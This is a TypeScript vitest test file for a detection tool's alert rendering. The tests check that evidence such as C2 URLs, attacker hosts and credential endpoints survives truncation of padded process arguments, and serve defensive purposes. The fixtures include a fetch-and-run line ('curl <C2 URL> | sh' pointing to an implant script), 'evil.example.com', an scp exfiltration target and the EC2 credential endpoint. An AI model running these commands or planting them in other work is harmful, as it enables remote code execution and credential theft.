import { describe, expect, it } from "vitest";
import type { Finding } from "../../src/model.js";
import { buildSignals } from "../../src/signals/build.js";
import { keepEvidenceArgs, truncateKeepingEvidence } from "../../src/signals/evidence.js";
import { renderEmail, renderJson, renderSnsMessage } from "../../src/signals/render.js";
import { finding } from "./finding-factory.js";

const C2 = "http://203.0.113.9/c2/implant.sh";

describe("keepEvidenceArgs", () => {
  it("keeps a short list as it is", () => {
    expect(keepEvidenceArgs(["-s", C2], 2, [])).toEqual(["-s", C2]);
  });

  it("keeps the URL and the option before it, and drops the padding", () => {
    const args = ["-H", "X-Pad: 1", "-H", "X-Pad: 2", "-H", "X-Pad: 3", "-o", "/tmp/.x/p", C2];
    expect(keepEvidenceArgs(args, 4, [])).toEqual(["-H", "…[truncated 5 args]", "-o", "/tmp/.x/p", C2]);
  });

  it.each([
    ["an IP address", "198.51.100.23"],
    ["a host name", "evil.example.com"],
    ["an scp target", "backup@files.example.org:/srv/x"],
    ["a credential endpoint", "fd00:ec2::254"],
    ["what a reason quotes", "--upload-file"],
  ])("keeps %s", (_name, arg) => {
    const args = [...Array.from({ length: 50 }, (_, i) => `pad${i}`), arg];
    const kept = keepEvidenceArgs(args, 2, [`the arguments say ${arg}`]);
    expect(kept).toContain(arg);
    expect(kept).toEqual(["pad0", "…[truncated 49 args]", arg]);
  });
});

describe("truncateKeepingEvidence", () => {
  it("keeps the URL after the cut of a long payload", () => {
    const text = `sh -c '${"x".repeat(10_000)} curl ${C2} | sh'`;
    const out = truncateKeepingEvidence(text, 100);
    expect(out).toBe(`${text.slice(0, 50)}…[truncated ${text.length - 50} chars] … ${C2}`);
  });

  it("is truncateText when nothing is evidence", () => {
    expect(truncateKeepingEvidence("a".repeat(10), 4)).toBe("aaaa…[truncated 6 chars]");
  });
});

describe("rendering a signal padded before its C2 URL", () => {
  it("keeps the URL in the email, the JSON and both SNS bodies", () => {
    const f: Finding = finding();
    const padding = Array.from({ length: 3000 }, (_, i) => ["-H", `X-Pad-${i}: ${"a".repeat(200)}`]).flat();
    f.event.process.args = [...padding, C2];
    f.process = f.event.process;
    const [signal] = buildSignals([f]);
    const sns = JSON.parse(renderSnsMessage(signal!).message) as { default: string; email: string };
    const json = JSON.parse(renderJson(signal!)) as { truncated?: boolean; process: { args: string[] } };

    expect(json.truncated).toBe(true);
    expect(json.process.args.at(-1)).toBe(C2);
    expect(json.process.args.length).toBeLessThan(padding.length);
    for (const text of [renderEmail(signal!), sns.default, sns.email]) expect(text).toContain(C2);
  });
});
